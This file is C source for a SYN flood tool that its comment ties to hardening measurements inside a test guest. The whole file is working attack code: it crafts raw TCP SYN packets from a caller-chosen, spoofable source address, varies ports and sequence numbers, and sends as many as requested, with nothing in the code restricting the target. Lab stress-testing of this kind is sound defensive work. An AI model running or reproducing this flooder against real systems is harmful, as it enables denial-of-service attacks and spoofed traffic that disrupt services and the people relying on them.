/* A SYN flood from inside a test guest, for the hardening measurements: COUNT TCP SYNs from SRC to
 * DST:PORT as fast as a raw socket takes them, each from another source port and sequence number,
 * never answered. Built static on the host (scripts/attack.ts) and copied into the guest image.
 * Usage: synflood SRC DST PORT COUNT */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static uint16_t fold(uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

static uint32_t add16(const void *p, size_t n, uint32_t sum) {
  const uint8_t *b = p;
  for (size_t i = 0; i + 1 < n; i += 2) sum += (uint32_t)(b[i] << 8 | b[i + 1]);
  if (n & 1) sum += (uint32_t)(b[n - 1] << 8);
  return sum;
}

int main(int argc, char **argv) {
  if (argc != 5) {
    fprintf(stderr, "usage: %s SRC DST PORT COUNT\n", argv[0]);
    return 2;
  }
  struct in_addr src, dst;
  if (!inet_aton(argv[1], &src) || !inet_aton(argv[2], &dst)) return 2;
  int port = atoi(argv[3]);
  long count = atol(argv[4]);
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    perror("socket");
    return 1;
  }
  uint8_t pkt[40];
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
  uint32_t seed = 0x9e3779b9;
  long sent = 0;
  for (long i = 0; i < count; i++) {
    seed ^= seed << 13;
    seed ^= seed >> 17;
    seed ^= seed << 5;
    memset(pkt, 0, sizeof pkt);
    struct iphdr *ip = (struct iphdr *)pkt;
    struct tcphdr *tcp = (struct tcphdr *)(pkt + 20);
    ip->version = 4;
    ip->ihl = 5;
    ip->tot_len = htons(40);
    ip->id = htons((uint16_t)i);
    ip->frag_off = htons(0x4000);
    ip->ttl = 64;
    ip->protocol = IPPROTO_TCP;
    ip->saddr = src.s_addr;
    ip->daddr = dst.s_addr;
    tcp->source = htons((uint16_t)(1024 + (i % 64000)));
    tcp->dest = htons((uint16_t)port);
    tcp->seq = htonl(seed);
    tcp->doff = 5;
    tcp->syn = 1;
    tcp->window = htons(64240);
    uint8_t pseudo[12];
    memcpy(pseudo, &ip->saddr, 4);
    memcpy(pseudo + 4, &ip->daddr, 4);
    pseudo[8] = 0;
    pseudo[9] = IPPROTO_TCP;
    pseudo[10] = 0;
    pseudo[11] = 20;
    tcp->check = htons(fold(add16(tcp, 20, add16(pseudo, 12, 0))));
    if (sendto(fd, pkt, sizeof pkt, 0, (struct sockaddr *)&to, sizeof to) == sizeof pkt) sent++;
  }
  printf("synflood: sent %ld of %ld\n", sent, count);
  return 0;
}
